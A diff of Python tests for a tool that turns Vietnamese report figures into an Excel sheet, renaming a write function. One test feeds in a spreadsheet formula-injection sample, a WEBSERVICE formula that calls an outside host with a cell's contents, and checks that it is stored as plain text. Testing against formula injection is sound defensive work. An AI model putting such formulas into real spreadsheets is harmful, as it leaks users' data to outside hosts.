@@ -41,14 +41,14 @@ def saved(rows, tmp_path):
 
 
 def test_the_sheet_asks_for_what_is_missing_and_not_for_what_is_computed(again):
-    rows = list(opened(sheet.written(again(BODY))).iter_rows(values_only=True))
+    rows = list(opened(sheet.write(again(BODY))).iter_rows(values_only=True))
     assert rows[0][4] == "Số năm 2024"
     assert [row[4] for row in rows[1:]] == ["640", "3.125", "tăng 2,1"]
     assert rows[1][6] == "Toàn tỉnh còn 640 hộ nghèo, giảm 31 hộ so với năm 2023."
 
 
 def test_what_is_typed_comes_back_to_its_place(again, tmp_path):
-    held = opened(sheet.written(again(BODY)))
+    held = opened(sheet.write(again(BODY)))
     for row, value in ((2, "610"), (4, "giảm 0,8%")):
         held.cell(row, 6).value = value
     file = tmp_path / "dien.xlsx"
@@ -63,7 +63,7 @@ def test_what_is_typed_comes_back_to_its_place(again, tmp_path):
 
 
 def test_a_rise_typed_without_its_direction_is_told(again, tmp_path):
-    held = opened(sheet.written(again(BODY)))
+    held = opened(sheet.write(again(BODY)))
     held.cell(4, 6).value = "0,8%"
     held.parent.save(tmp_path / "dien.xlsx")
     (reason,) = again(BODY, sheet.figures_of(tmp_path / "dien.xlsx", Reading())).unused
@@ -107,13 +107,13 @@ def test_words_that_excel_would_compute_are_kept_as_words(again):
     made = again('Phong trào "+84" có 12 hộ tham gia.')
     assert all(
         not str(cell.value or "").startswith(("=", "+", "@"))
-        for row in opened(sheet.written(made)).iter_rows()
+        for row in opened(sheet.write(made)).iter_rows()
         for cell in row
     )
 
 
 def test_a_report_without_figures_has_a_sheet_of_its_titles_alone(again):
-    assert len(list(opened(sheet.written(again("Không có số liệu."))).iter_rows())) == 1
+    assert len(list(opened(sheet.write(again("Không có số liệu."))).iter_rows())) == 1
 
 
 def test_the_same_figure_told_twice_has_one_row(framed, assistant, tmp_path):
@@ -125,7 +125,7 @@ def test_the_same_figure_told_twice_has_one_row(framed, assistant, tmp_path):
 
 def test_a_formula_of_last_year_s_report_is_no_formula_of_the_sheet(again):
     made = again('=1+WEBSERVICE("http://may-la.vn/"&A1) có 640 hộ nghèo.\n\n+84 xã có 12 hộ tham gia.')
-    cells = [cell for row in opened(sheet.written(made)).iter_rows() for cell in row]
+    cells = [cell for row in opened(sheet.write(made)).iter_rows() for cell in row]
     assert any("WEBSERVICE" in str(cell.value) for cell in cells) and all(cell.data_type != "f" for cell in cells)
 
 
